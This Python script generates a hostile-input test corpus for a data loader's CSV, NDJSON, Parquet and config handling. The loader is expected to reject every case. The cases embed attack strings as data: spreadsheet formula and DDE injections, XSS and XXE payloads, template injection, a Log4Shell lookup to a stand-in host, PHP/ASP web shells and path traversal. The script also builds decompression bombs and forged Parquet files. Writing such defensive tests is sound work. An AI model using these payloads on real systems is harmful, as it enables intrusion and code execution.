#!/usr/bin/env python3
"""Writes the input files and manifest.yaml (for maintainers; the files are kept in the repository).

    pip install pyarrow==26.0.1 pyyaml
    python tests/corpus/hostile/generate.py

Every case states what must come of it. Add one here, run this, and commit what it wrote.
"""

import gzip
import pathlib
import struct

import pyarrow as pa
import pyarrow.parquet as pq
import yaml

HERE = pathlib.Path(__file__).resolve().parent
CASES = []
HEAD = "id,n,amount,day,seen_at,flag,note\n"


def put(folder, name, data):
    path = HERE / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return f"{folder}/{name}"


class Literal(yaml.SafeDumper):
    """Texts of several lines as blocks."""


Literal.add_representer(str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style="|" if "\n" in text else None))


def case(name, why, expect, *, source="csv", contract="typed", input=None, **more):
    CASES.append({"name": name, "why": why, "source": source, "contract": contract, "input": input, **more, "expect": expect})


def loads(loaded, refused, rows=None, query=None):
    """`refused` is 0, or the rows that each rule refused."""
    expect = {"loaded": loaded, "rejected": sum(refused.values()) if refused else 0, "refused": refused or {}}
    if rows is not None:
        expect["rows"] = rows
    if query is not None:
        expect["query"] = query
    return expect


def fails(error, exit, refused=None):
    return {"error": error, "exit": exit, **({"refused": refused} if refused else {})}


# ---------------------------------------------------------------- CSV


def csv(name, why, body, expect, *, head=HEAD, **more):
    data = (head.encode() + body) if isinstance(body, bytes) else head + body
    case("csv-" + name, why, expect, input=put("csv", name + ".csv", data), **more)


def row(n, id="a", amount="", day="", seen_at="", flag="", note=""):
    return f"{id},{n},{amount},{day},{seen_at},{flag},{note}\n"


csv("na-undeclared", "NA is no number unless the source declares it as a null token", row(1, amount="1.5") + row(2, amount="NA"),
    loads(1, {"type of amount": 1}, "n\n1\n", "select n from typed order by n"))
csv("na-declared", "with `null: [NA]`, NA is null in numbers, dates and texts, but a quoted \"NA\" is a text",
    row(1, amount="NA", day="NA", note="NA") + row(2, note='"NA"'), source="csv_na",
    expect=loads(2, 0, "n,no_amount,no_day,note\n1,true,true,\n2,true,true,NA\n",
                 "select n, amount is null as no_amount, day is null as no_day, note from typed order by n"))
csv("thousands", "1,234 with a thousands separator is no number", row(1, amount='"1,234"') + row(2, amount="1234"), loads(1, {"type of amount": 1}, "n,ok\n2,true\n", "select n, amount = 1234 as ok from typed order by n"))
csv("impossible-dates", "days that no calendar has",
    row(1, day="2013-02-30") + row(2, day="2013-02-29") + row(3, day="2012-02-29") + row(4, day="2013-13-01") + row(5, day="2013-2-3") + row(6, day="0000-00-00"),
    loads(1, {"type of day": 5}, "n,ok\n3,true\n", "select n, day = date '2012-02-29' as ok from typed order by n"))
csv("mixed-line-ends", "LF and CRLF in one file end rows alike, and no CR stays in a value", (row(1, note="x").replace("\n", "\r\n") + row(2, note="y") + row(3, note="z").replace("\n", "\r\n")).encode(),
    loads(3, 0, "n,note,length\n1,x,1\n2,y,1\n3,z,1\n", "select n, note, character_length(note) as length from typed order by n"))
csv("byte-order-mark", "a UTF-8 mark is not part of the first column's name", row(1), loads(1, 0, "n,id\n1,a\n", "select n, id from typed order by n"), head="\ufeff" + HEAD)
csv("latin-1-undeclared", "a byte that is not UTF-8 is refused, never replaced", row(1, note="cafe").encode() + row(2, note="caf\xe9").encode("latin-1"),
    loads(1, {"not_utf8 of note": 1}, "n,note\n1,cafe\n", "select n, note from typed order by n"))
csv("latin-1-declared", "with `encoding: latin-1` the same byte is é", row(1, note="caf\xe9").encode("latin-1"), source="csv_latin1",
    expect=loads(1, 0, "n,note\n1,café\n", "select n, note from typed order by n"))
csv("utf-16", "UTF-16 is named and not guessed at", "", fails("it is UTF-16", 3), head=(HEAD + row(1)).encode("utf-16").decode("latin-1"))
(HERE / "csv/utf-16.csv").write_bytes((HEAD + row(1)).encode("utf-16"))
csv("duplicate-header", "which of two columns is meant is not guessed", "a,1,,,,,x,2\n", fails("column n stands there more than once", 3), head=HEAD.replace("\n", ",n\n"))
csv("no-header", "a file without a header: its first row is values, which no error tells", row(1, id="Ada") + row(2), fails("columns 3 and 4 have the same name; rename one of them at the source, or set `header: false`", 3), head="")
csv("carriage-returns", "lines that end with a carriage return alone are one line, and no file without rows", row(1).replace("\n", "\r"), fails("a carriage return alone ends no line", 3), head=HEAD.replace("\n", "\r"))
csv("ragged", "a row with a field too few, or too many, is refused; the others are not moved", row(1) + "a,2,\n" + row(3) + "a,4,,,,,x,extra\n" + row(5),
    loads(3, {"malformed:ragged": 2}, "n\n1\n3\n5\n", "select n from typed order by n"))
csv("missing-column", "a contract's column that the file lacks", "a\n", fails("find column n", 3), head="id\n")
csv("wrong-delimiter", "a file with semicolons, read with commas, has one column", (row(1)).replace(",", ";"), fails("find column id", 3), head=HEAD.replace(",", ";"))
csv("unauthorised-invalid-bytes", "no byte of a column that no contract names is decoded", b"a,1,,,,,x,\xff\xfe\x80\n" + b"a,2,,,,,y,\xc3\x28\n", head=HEAD.replace("\n", ",secret\n"),
    expect=loads(2, 0, "n,note\n1,x\n2,y\n", "select n, note from typed order by n"))
csv("nan-and-infinity", "neither is a number that a sum survives", row(1, amount="NaN") + row(2, amount="inf") + row(3, amount="-Infinity") + row(4, amount="1"),
    loads(1, {"type:not_finite of amount": 3}, "n\n4\n", "select n from typed order by n"))
csv("not-numbers", "hexadecimal, underscores, full-width digits, two points, an overflow", row(1, amount="0x10") + row(2, amount="1_000") + row(3, amount="１２") + row(4, amount="1.2.3") + row(5, amount="1e400") + row(6, amount="12"),
    loads(1, {"type of amount": 4, "type:range of amount": 1}, "n\n6\n", "select n from typed order by n"))
csv("beyond-2-to-53", "integers past what a double holds stay what they are; past 64 bits they are refused",
    row(9007199254740993) + row(9223372036854775807) + row(9223372036854775808) + row(-9223372036854775809),
    loads(2, {"type:range of n": 2}, "n\n9007199254740993\n9223372036854775807\n", "select n from typed order by n"))
FLOATS = {"contract": "floats", "head": "n,amount,small\n"}
csv("floats-beyond-2-to-53", "a whole number that a double does not hold is refused in every spelling, and a fraction where a double has none",
    "1,9007199254740993,\n2,9007199254740993.0,\n3,9007199254740993e0,\n4,90071992547409930e-1,\n5,9007199254740993.5,\n6,9007199254740992.0,\n7,90071992547409920e-1,\n8,,16777217.0\n9,,1.6777216e7\n",
    loads(3, {"type:precision of amount": 5, "type:precision of small": 1}, "n,ok\n6,true\n7,true\n9,true\n",
          "select n, coalesce(amount = 9007199254740992, small = 16777216) as ok from typed order by n"), **FLOATS)
csv("floats-underflow", "what is not zero does not become zero, and no exponent costs memory",
    "1,1e-400,\n2,-1e-400,\n3,1e400,\n4,1e999999999999999999999,\n5,1e-999999999999999999999,\n6,0e999999999999999999999,\n7,,1e-50\n8,,1e39\n9,5e-324,0.5\n",
    loads(2, {"type:range of amount": 5, "type:range of small": 2}, "n,ok\n6,true\n9,true\n", "select n, case when n = 6 then amount = 0 else amount > 0 end as ok from typed order by n"), **FLOATS)
csv("years-beyond-utc", "an offset leads out of the years 1 to 9999", row(1, seen_at="0001-01-01T00:00:00+14:00") + row(2, seen_at="9999-12-31T23:59:59-14:00") + row(3, seen_at="9999-12-31T09:59:59-14:00"),
    loads(1, {"type:range of seen_at": 2}, "n,ok\n3,true\n", "select n, seen_at is not null as ok from typed order by n"))
csv("fraction-in-integer", "1.5 is not rounded to fit an integer", row("1.5") + row(2), loads(1, {"type of n": 1}, "n\n2\n", "select n from typed order by n"))
csv("leading-zeros", "an identifier keeps its zeros", row(1, id="007") + row(2, id="0000000000000000000001"), loads(2, 0, "n,id\n1,007\n2,0000000000000000000001\n", "select n, id from typed order by n"))
csv("time-zones", "an offset names a moment; one that no place has is refused", row(1, seen_at="2013-01-01T10:00:00Z") + row(2, seen_at="2013-01-01T12:00:00+02:00") + row(3, seen_at="2013-01-01T10:00:00+25:00") + row(4, seen_at="2013-01-01T25:00:00Z"),
    loads(2, {"type of seen_at": 2}, "moments\n1\n", "select count(distinct seen_at) as moments from typed"))
csv("unclosed-quote", "what follows a quote that never closes cannot be told apart", row(1) + 'a,2,,,,,"never\n' + row(3), fails("record 2 opens a quoted field that never closes", 3))
csv("quoted-line-end", "a line end, a delimiter and a quote inside quotes belong to the value", row(1, note='"a\nb, ""c"""') + row(2),
    loads(2, 0, "n,length\n1,8\n2,\n", "select n, character_length(note) as length from typed order by n"))
csv("quote-inside-field", "a stray quote is refused, not repaired", row(1, note='"a"b') + row(2), loads(1, {"malformed:bad_quote": 1}, "n\n2\n", "select n from typed order by n"))
csv("empty-file", "no bytes, so not even a header", "", fails("holds no record", 3), head="")
csv("header-only", "nothing read, nothing loaded, and no error", "", loads(0, 0))
csv("no-last-line-end", "the last row counts without a line end", row(1) + row(2).rstrip("\n"), loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
csv("required-missing", "an empty required value", row(1) + row(""), loads(1, {"primaryKey:null of n": 1}, "n\n1\n", "select n from typed order by n"))
csv("key-twice", "the second row with the same primary key is refused", row(1) + row(2) + row(1), loads(2, {"primaryKey of n": 1}, "n\n1\n2\n", "select n from typed order by n"))
csv("too-long-text", "lengths are characters, not bytes", row(1, note="é" * 40) + row(2, note="é" * 41), loads(1, {"maxLength of note": 1}, "n\n1\n", "select n from typed order by n"))
csv("not-a-boolean", "yes is no boolean", row(1, flag="true") + row(2, flag="false") + row(3, flag="yes") + row(4, flag="2"), loads(2, {"type of flag": 2}, "n,flag\n1,true\n2,false\n", "select n, flag from typed order by n"))
csv("all-rows-bad", "none loaded of more than none read always fails", row("x") + row("y"), fails("none of 2 rows was loaded", 3, {"type of n": 2}))
csv("over-the-limit", "two bad rows of a hundred are more than the default limit of one percent", "".join(row(n) for n in range(98)) + row("x") * 2, fails("2 of 100 rows broke the contract", 3, {"type of n": 2}), contract="strict")
csv("on-violation-fail", "the default: one bad row and nothing becomes visible", row(1) + row("x"), fails("breaks rule type of column n", 3, {"type of n": 1}), contract="failing")
csv("too-many-columns", "5,000 columns are a wrong delimiter or an attack", ",".join("1" for _ in range(5000)) + "\n", fails("more than 4096 columns", 3), head=",".join(f"c{i}" for i in range(5000)) + "\n")
csv("unclosed-header-quote", "the header's quote is never closed", "1,2\n", fails("read the header", 3), head='id,"n,amount\n')
good = gzip.compress((HEAD + row(1) + row(2)).encode(), 9, mtime=0)
case("csv-gzip-two-members", "a gzip file may have several members; all are read", loads(3, 0, "n\n1\n2\n3\n", "select n from typed order by n"),
     input=put("csv", "two-members.csv.gz", good + gzip.compress(row(3).encode(), 9, mtime=0)))
case("csv-gzip-cut", "a compressed file that was cut off has lost rows", fails("ends before its end mark", 4), input=put("csv", "cut.csv.gz", good[:-10]))
case("csv-gzip-damaged", "the checksum of a compressed file does not fit", fails("stream is damaged", 3), input=put("csv", "damaged.csv.gz", good[:-8] + bytes([good[-8] ^ 1]) + good[-7:]))
case("csv-line-2gb", "one line of 2 GB is refused without being held in memory", loads(2, {"malformed:too_long": 1}, "n\n1\n3\n", "select n from typed order by n"), input={"generator": "line_2gb"})
case("csv-gzip-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "gzip_bomb"})
case("csv-zstd-bomb", "a small file that grows without end", fails("grows by more than", 3), input={"generator": "zstd_bomb"})

# What is a risk in itself: values that fit their column.


def content(name, why, notes, refused, kept=("an ordinary note",)):
    """Notes that are refused, and then some that are not."""
    lines = [row(n, note='"' + note.replace('"', '""') + '"') for n, note in enumerate([*notes, *kept], 1)]
    wanted = "n\n" + "".join(f"{n}\n" for n in range(len(notes) + 1, len(notes) + len(kept) + 1))
    csv("content-" + name, why, "".join(lines), loads(len(kept), {f"content:{kind} of note": count for kind, count in refused.items()}, wanted, "select n from typed order by n"))


content("formula", "what a spreadsheet runs when the table is exported", ["=1+1", '=HYPERLINK("http://a.example")', "@SUM(1+1)", "+SUM(A1)"], {"formula": 4},
        ["-5", "+33 6 12 34 56 78", "- item (note)", "@handle", "-item(s)", "-", "==="])
content("dde", "a cell that starts a program", ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)*cmd|' /C calc'!A0"], {"formula": 4}, ["- a | b | c"])
content("formula-behind", "white space, quotes and invisible characters before the sign are taken away by spreadsheets", ["\t=1+1", " =1+1", "'=1+1", '"=1+1', "\u00a0=1+1", "\ufeff=1+1"], {"formula": 6})
content("formula-full-width", "full-width signs are signs to some spreadsheets", ["\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(1+1)"], {"formula": 3}, ["\uff0d\uff15"])
content("formula-other-file", "a value of a file elsewhere, for which the spreadsheet opens it", ["=[book.xls]Sheet1!A1", "+'\\\\host\\share\\[b.xls]S'!A1"], {"formula": 2})
content("control", "control characters of both sets", ["bell\x07", "esc\x1b[2J", "nul\x00", "c1\x9b2J", "del\x7f"], {"control": 5}, ["tab\tand\r\nline ends"])
content("bidi-override", "text that reads in another order than it stands", ["access\u202elevel", "\u202dabc\u202c"], {"bidi": 2}, ["\u05e9\u05dc\u05d5\u05dd\u200f!"])
content("bidi-isolates", "parts without an end, or that turn where nothing does", ["\u2067if (admin)\u2069", "\u202aC:\\Users", "abc\u202c"], {"bidi": 3}, ["\u202b\u05e9\u05dc\u05d5\u05dd abc\u202c", "\u202a+33 6 12\u202c"])
content("hidden", "characters of no width in a word and at its ends", ["ad\u200bmin", "admin\u200b", "ad\u200dmin", "ad\ufeffmin", "hi\U000e0068\U000e0069"], {"bidi": 5},
        ["\U0001f469\u200d\U0001f467", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0915\u094d\u200d\u0937"])
content("homoglyph", "Cyrillic, Greek and full-width letters that pass for Latin ones in identifiers", ["p\u0430yp\u0430l.com", "ann@ex\u0430mple.org", "g\u03bf\u03bfgle.com", "\u0430dmin", "\uff41dmin"], {"homoglyph": 5},
        ["\u043f\u0440\u0438\u0432\u0435\u0442", "USB-\u043a\u0430\u0431\u0435\u043b\u044c", "\u03bdmax", "\u03bcm"])
content("homoglyph-host", "a host all in Cyrillic that reads as another", ["https://\u0430\u0440\u0440\u04cf\u0435.com"], {"homoglyph": 1}, ["https://\u043f\u043e\u0447\u0442\u0430.ru"])
content("script", "a script, however its tag is written", ["<script>alert(1)</script>", "<SCRIPT src=//a.example>", "<script", "<svg/onload=alert(1)>", "<img src=x onerror = alert(1)>"], {"markup": 5}, ["<b>bold</b>", "a < b", "List<Object>"])
content("script-address", "addresses that are run", ["javascript:alert(1)", "<a href='javascript:x'>", "java\tscript:alert(1)", "data:text/html,<b>x</b>"], {"markup": 4}, ["JavaScript: The Good Parts"])
content("entity", "entities of XML that read files", ['<!ENTITY x SYSTEM "file:///etc/passwd">', "<!DOCTYPE a [<!ELEMENT a ANY>]>"], {"markup": 2}, ["<!DOCTYPE html>"])
content("template", "a template that reaches into the program that fills it", ["{{ ''.__class__.__mro__ }}", "${T(java.lang.Runtime)}"], {"markup": 2}, ["{{ name }}", "${HOME}"])
content("log4shell", "a look-up that a logging library runs", ["${jndi:ldap://a.example/x}", "${${lower:j}ndi:ldap://a.example/x}"], {"pattern": 2}, ["${user}"])
content("web-shell", "a program of a web server", ["<?php @eval($_POST['x']); ?>", '<%eval request("x")%>'], {"pattern": 2}, ["<?php echo 1; ?>"])
content("private-key", "a key that has no place in a table", ["-----BEGIN " + "PRIVATE KEY-----"], {"pattern": 1}, ["-----BEGIN CERTIFICATE-----"])
content("encoded-program", "a program in Base64", ["TVqQAAMAAAAEAAAA//8AALgAAAA"], {"pattern": 1})
csv("content-before-others", "a risk is told before any other rule that the row breaks", row("x", note="=1+1") + row(2, note="=" + "1" * 50) + row(3),
    loads(1, {"content:formula of note": 2}, "n\n3\n", "select n from typed order by n"))

# ---------------------------------------------------------------- NDJSON


def nd(name, why, lines, expect, **more):
    data = lines if isinstance(lines, bytes) else "".join(line + "\n" for line in lines)
    case("ndjson-" + name, why, expect, source="ndjson", input=put("ndjson", name + ".ndjson", data), **more)


nd("nested-value", "an object or a list is no scalar", ['{"n":1,"note":"x"}', '{"n":2,"note":{"a":1}}', '{"n":3,"note":[null]}'], loads(1, {"type of note": 2}, "n\n1\n", "select n from typed order by n"))
nd("nested-nulls", "nulls deep inside what no contract names are stepped over", ['{"n":1,"other":{"a":[null,{"b":null}]}}', '{"n":2,"other":null,"note":null}'], loads(2, 0, "n,none\n1,true\n2,true\n", "select n, note is null as none from typed order by n"))
nd("key-twice", "which of two values is meant is not guessed", ['{"n":1}', '{"n":2,"n":3}', '{"n":4,"\\u006e":5}'], loads(1, {"malformed:duplicate_key": 2}, "n\n1\n", "select n from typed order by n"))
nd("escaped-key", "a key written with escapes is the same key", ['{"\\u006e":1,"n\\u006fte":"x"}'], loads(1, 0, "n,note\n1,x\n", "select n, note from typed order by n"))
nd("not-json", "trailing comma, single quotes, a comment, no closing brace", ['{"n":1}', '{"n":2,}', "{'n':3}", '{"n":4} // four', '{"n":5'], loads(1, {"malformed:invalid_json": 4}, "n\n1\n", "select n from typed order by n"))
nd("nan-token", "JSON has no NaN, no infinity and no leading zeros", ['{"n":1,"amount":1}', '{"n":2,"amount":NaN}', '{"n":3,"amount":-Infinity}', '{"n":4,"amount":01}', '{"n":5,"amount":1e400}'], loads(1, {"malformed:invalid_json": 3, "type:range of amount": 1}, "n\n1\n", "select n from typed order by n"))
nd("beyond-2-to-53", "integers past what a double holds stay what they are", ['{"n":9007199254740993}', '{"n":9223372036854775808}'], loads(1, {"type:range of n": 1}, "n\n9007199254740993\n", "select n from typed order by n"))
nd("floats-beyond-2-to-53", "a whole number that a double does not hold is refused in every spelling, and what would become zero",
   ['{"n":1,"amount":9007199254740993}', '{"n":2,"amount":9007199254740993.0}', '{"n":3,"amount":9007199254740993e0}', '{"n":4,"amount":9007199254740993.5}', '{"n":5,"amount":1e-400}', '{"n":6,"amount":9007199254740992.0}'],
   loads(1, {"type:precision of amount": 4, "type:range of amount": 1}, "n,ok\n6,true\n", "select n, amount = 9007199254740992 as ok from typed order by n"), contract="floats")
nd("one-array", "a JSON array is named as what it is", ['[{"n":1},', '{"n":2}]'], fails("JSON array", 3))
nd("not-an-object", "a line that is JSON but no object", ['{"n":1}', "42", '"text"', "null"], loads(1, {"malformed:not_an_object": 3}, "n\n1\n", "select n from typed order by n"))
nd("too-deep", "nesting without end, in a key that no contract names", ['{"n":1}', '{"n":2,"other":' + "[" * 5000 + "]" * 5000 + "}"], loads(1, {"malformed:too_deep": 1}, "n\n1\n", "select n from typed order by n"))
nd("lone-surrogate", "half a character is refused; a whole pair is one", ['{"n":1,"note":"\\ud83d\\ude00"}', '{"n":2,"note":"\\ud83d"}'], loads(1, {"malformed:invalid_json": 1}, "n,length\n1,1\n", "select n, character_length(note) as length from typed order by n"))
nd("invalid-utf-8", "bytes that are not UTF-8 in a value that is wanted", b'{"n":1}\n{"n":2,"note":"caf\xe9"}\n', loads(1, {"not_utf8 of note": 1}, "n\n1\n", "select n from typed order by n"))
nd("number-as-text", "\"2\" is a text, and no number unless the contract says so", ['{"n":1}', '{"n":"2"}'], loads(1, {"type of n": 1}, "n\n1\n", "select n from typed order by n"))
nd("required-missing", "a missing key is null", ['{"n":1}', '{"id":"a"}', '{"n":null}'], loads(1, {"primaryKey:null of n": 2}, "n\n1\n", "select n from typed order by n"))
nd("byte-order-mark", "a UTF-8 mark is not part of the first line", b'\xef\xbb\xbf{"n":1}\n{"n":2}\n', loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
nd("fraction-in-integer", "1.5 is not rounded to fit an integer", ['{"n":1}', '{"n":1.5}'], loads(1, {"type of n": 1}, "n\n1\n", "select n from typed order by n"))
nd("content", "escapes of JSON hide nothing from inspection", ['{"n":1,"note":"\\u003d1+1"}', '{"n":2,"note":"nul\\u0000"}', '{"n":3,"note":"\\u003cscript>"}', '{"n":4,"note":"ad\\u200bmin"}', '{"n":5}'],
   loads(1, {"content:formula of note": 1, "content:control of note": 1, "content:markup of note": 1, "content:bidi of note": 1}, "n\n5\n", "select n from typed order by n"))

# ---------------------------------------------------------------- Parquet

FULL = {"id": pa.string(), "n": pa.int64(), "amount": pa.float64(), "day": pa.date32(), "seen_at": pa.timestamp("us", "UTC"), "flag": pa.bool_(), "note": pa.string()}


def table(rows, types=FULL):
    return pa.table({name: pa.array([r.get(name) for r in rows], kind) for name, kind in types.items()})


def parquet_bytes(data, **options):
    sink = pa.BufferOutputStream()
    pq.write_table(data, sink, **{"compression": "zstd", "store_schema": False, **options})
    return sink.getvalue().to_pybytes()


def par(name, why, data, expect, **more):
    case("parquet-" + name, why, expect, source="parquet", input=put("parquet", name + ".parquet", data), **more)


plain = parquet_bytes(table([{"n": n, "id": "a", "note": "x"} for n in range(100)]))


def lying(data, rows, claimed):
    """The footer's own count of rows, changed; the row group's stays."""
    length = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - length

    def varint(value):
        value <<= 1
        out = b""
        while value > 127:
            out, value = out + bytes([value & 127 | 128]), value >> 7
        return out + bytes([value])

    at = data.index(b"\x16" + varint(rows), start) + 1
    assert len(varint(rows)) == len(varint(claimed))
    changed = data[:at] + varint(claimed) + data[at + len(varint(claimed)):]
    assert pq.ParquetFile(pa.BufferReader(changed)).metadata.num_rows == claimed
    return changed


par("lying-footer", "the footer promises a row that no row group has", lying(plain, 100, 101), fails("promises 101 rows, 100 were found", 3))
par("cut", "the file ends before its footer", plain[:-50], fails("footer of the Parquet file", 3))
par("empty-file", "no bytes", b"", fails("footer of the Parquet file", 3))
par("not-parquet", "a CSV with the wrong name", (HEAD + row(1)).encode(), fails("footer of the Parquet file", 3))
par("footer-too-long", "the footer's length points before the file's start", plain[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1", fails("footer of the Parquet file", 3))
par("damaged-page", "a compressed page does not open", plain.replace(b"\x28\xb5\x2f\xfd", b"\x28\xb5\x2f\xfc"), fails("decode a page", 3))
par("wrong-type", "a text column where the contract wants an integer", parquet_bytes(table([{"n": "one"}, {"n": "two"}], {**FULL, "n": pa.string()})), fails("none of 2 rows was loaded", 3, {"type of n": 2}))
par("missing-column", "the contract's key is not in the file", parquet_bytes(table([{"id": "a"}], {k: v for k, v in FULL.items() if k != "n"})), fails("find column n", 3))
par("nested-column", "a struct where the contract wants a text", parquet_bytes(table([{"n": 1, "note": {"a": 1}}], {**FULL, "note": pa.struct([("a", pa.int64())])})), fails("it is a struct", 3))
par("nested-nulls", "nested nulls in a column that no contract names are not decoded",
    parquet_bytes(table([{"n": 1, "other": [None, [None, 1]]}, {"n": 2, "other": None}], {**FULL, "other": pa.list_(pa.list_(pa.int64()))})),
    loads(2, 0, "n\n1\n2\n", "select n from typed order by n"))
par("nan", "NaN and infinity in a column of doubles", parquet_bytes(table([{"n": 1, "amount": 1.5}, {"n": 2, "amount": float("nan")}, {"n": 3, "amount": float("-inf")}])),
    loads(1, {"type:not_finite of amount": 2}, "n\n1\n", "select n from typed order by n"))
par("required-null", "a null key", parquet_bytes(table([{"n": 1}, {"n": None}])), loads(1, {"primaryKey:null of n": 1}, "n\n1\n", "select n from typed order by n"))
par("no-rows", "a file without rows", parquet_bytes(table([])), loads(0, 0))
par("duplicate-column", "two columns of one name", parquet_bytes(pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["n", "n"])), fails("column n stands there more than once", 3))
bad_text = pa.Array.from_buffers(pa.string(), 2, [None, pa.py_buffer(struct.pack("<3i", 0, 1, 5)), pa.py_buffer(b"xcaf\xe9")])
par("invalid-utf-8", "a text column that holds other bytes", parquet_bytes(pa.table({"n": pa.array([1, 2], pa.int64()), **{k: pa.nulls(2, v) for k, v in FULL.items() if k not in ("n", "note")}, "note": bad_text})), fails("decode a page", 3))

par("int96", "timestamps of a form whose years wrap round", parquet_bytes(table([{"n": 1}]), use_deprecated_int96_timestamps=True), fails("it holds INT96 timestamps", 3))
# Two texts of 200 MiB each, as pages of their own: what a decoder would hold at once does not show in the file's size.
wide = "y" * (200 << 20)
par("page-bombs", "pages of several columns that grow more than a thousandfold", parquet_bytes(table([{"n": 1, "id": wide, "note": wide}]), use_dictionary=False, write_statistics=False, compression_level=19), fails("it grows by more than 1000 times", 3))

# A gzip page that grows to 2 MiB of zeros; the page header promises what stood there before. The column `a` holds the same values as `n`.
twins = {"a": pa.int64(), **FULL}
honest = parquet_bytes(table([{"a": n, "n": n} for n in range(3000)], twins), compression="gzip")
chunks = pq.ParquetFile(pa.BufferReader(honest)).metadata.row_group(0)
decoy, column = chunks.column(0), chunks.column(2)
assert (decoy.path_in_schema, column.path_in_schema) == ("a", "n") and decoy.total_compressed_size == column.total_compressed_size
bomb = gzip.compress(bytes(2 << 20), 9, mtime=0)
page = honest.index(b"\x1f\x8b", column.dictionary_page_offset)
assert page + len(bomb) < column.data_page_offset
grown = honest[:page] + bomb + honest[page + len(bomb):]
par("page-bomb", "a page that grows beyond what its header promises", grown, fails("beyond the 24000 bytes that its header promises", 3))


def zigzag(value, length=0):
    """A number as the footer's protocol writes it, in at least so many bytes."""
    value, out = value << 1, b""
    while value > 127 or len(out) + 1 < length:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


true_offset = zigzag(column.data_page_offset)
footer = len(grown) - 8 - struct.unpack("<I", grown[-8:-4])[0]
assert grown.count(true_offset, footer) == 1
at = grown.index(true_offset, footer)
led = grown[:at] + zigzag(decoy.dictionary_page_offset, len(true_offset)) + grown[at + len(true_offset):]
assert pq.ParquetFile(pa.BufferReader(led)).metadata.row_group(0).column(2).data_page_offset == decoy.dictionary_page_offset
par("pages-elsewhere", "the same, with a footer that says the column's data pages begin in another column", led, fails("beyond the 24000 bytes that its header promises", 3))

# ---------------------------------------------------------------- project files


def proj(name, why, files, expect, *, command=("run", "--output", "json"), approve=("typed",), data=True):
    mapped = {}
    for target, text in files.items():
        mapped[target] = text if isinstance(text, dict) else put(f"project/{name}", target.replace("/", "--"), text)
    entry = {"name": "project-" + name, "why": why, "source": "csv", "contract": "typed", "input": "csv/leading-zeros.csv", "files": mapped,
             "approve": list(approve), "command": list(command), "expect": expect}
    CASES.append(entry)


def contract(**changes):
    text = (HERE / "common/contracts/typed.odcs.yaml").read_text()
    for old, new in changes.get("replace", {}).items():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text + changes.get("append", "")


CHECK = ("contract", "check")
SOURCE = ("source", "check", "files")
proj("source-unknown-key", "a misspelt key is never ignored", {"sources/files.yaml": "type: csv\npath: data\ndatasets:\n  typed: {fil: '*'}\n"}, fails("line 4: unknown key `fil`", 2), command=SOURCE, approve=())
proj("source-unknown-type", "a type that no source has", {"sources/files.yaml": "type: csvv\npath: data\ndatasets:\n  typed: {file: '*'}\n"}, fails("unknown word `csvv`", 2), command=SOURCE, approve=())
proj("source-climbs-out", "a file outside the source's path", {"sources/files.yaml": "type: csv\npath: data\ndatasets:\n  typed: {file: ../../../etc/passwd}\n"}, fails("line 4: dataset typed: `file` is empty, absolute or climbs out", 2), command=SOURCE, approve=())
proj("source-key-twice", "which of two keys is meant is not guessed", {"sources/files.yaml": "type: csv\npath: data\npath: other\ndatasets:\n  typed: {file: '*'}\n"}, fails("line 3: key `path` stands there twice", 2), command=SOURCE, approve=())
proj("source-null-in-parquet", "a key without meaning for the type", {"sources/files.yaml": "type: parquet\npath: data\ndatasets:\n  typed: {file: '*', \"null\": [NA]}\n"}, fails("`null` has no meaning for type parquet", 2), command=SOURCE, approve=())
proj("source-missing-directory", "a directory that is not there may come back", {"sources/files.yaml": "type: csv\npath: nowhere\ndatasets:\n  typed: {file: '*'}\n"}, fails("there is no directory", 4))
proj("contract-unknown-key", "a misspelt `required` would let nulls in", {"contracts/typed.odcs.yaml": contract(replace={"required: true": "requird: true"})}, fails("line 16: `requird`", 2), command=CHECK, approve=())
proj("contract-unknown-setting", "a setting of Polder's that does not exist", {"contracts/typed.odcs.yaml": contract(replace={"polder.rejectLimit": "polder.rejektLimit"})}, fails("line 10: `polder.rejektLimit`", 2), command=CHECK, approve=())
proj("contract-no-schema", "a contract without columns authorises nothing", {"contracts/typed.odcs.yaml": contract().split("schema:")[0]}, fails("`schema` is missing", 2), command=CHECK, approve=())
proj("contract-unknown-type", "a logical type that ODCS does not have", {"contracts/typed.odcs.yaml": contract(replace={"logicalType: boolean": "logicalType: bool"})}, fails("line 20: column flag: `bool`", 2), command=CHECK, approve=())
proj("contract-bad-pattern", "a pattern that does not compile", {"contracts/typed.odcs.yaml": contract(replace={"maxLength: 40": 'pattern: "("'})}, fails("the pattern of column note", 2), command=CHECK, approve=())
proj("contract-minimum-over-maximum", "a range that nothing can lie in", {"contracts/typed.odcs.yaml": contract(replace={"minimum: -1000000000": "minimum: 2000000000"})}, fails("line 17: the limits leave no value", 2), command=CHECK, approve=())
proj("contract-column-twice", "two columns of one name", {"contracts/typed.odcs.yaml": contract(append="      - {name: note, physicalName: id, logicalType: string}\n")}, fails("the column note stands there twice", 2), command=CHECK, approve=())
proj("contract-bad-table-name", "a table's name is an identifier", {"contracts/typed.odcs.yaml": contract(replace={"- name: typed": "- name: ../typed"})}, fails("line 12: a table name", 2), command=CHECK, approve=())
proj("contract-unknown-source", "a source that no file declares", {"contracts/typed.odcs.yaml": contract(replace={"value: files": "value: filez"})}, fails("find source filez", 2), command=CHECK, approve=())
proj("contract-aliases-without-end", "a YAML file whose aliases grow without end",
     {"contracts/typed.odcs.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join('*' + p for _ in range(9))}]\n" for p, c in zip("abcdefgh", "bcdefghi"))}, fails("typed.odcs.yaml, line 6: the document unfolds to more", 2), command=CHECK, approve=())
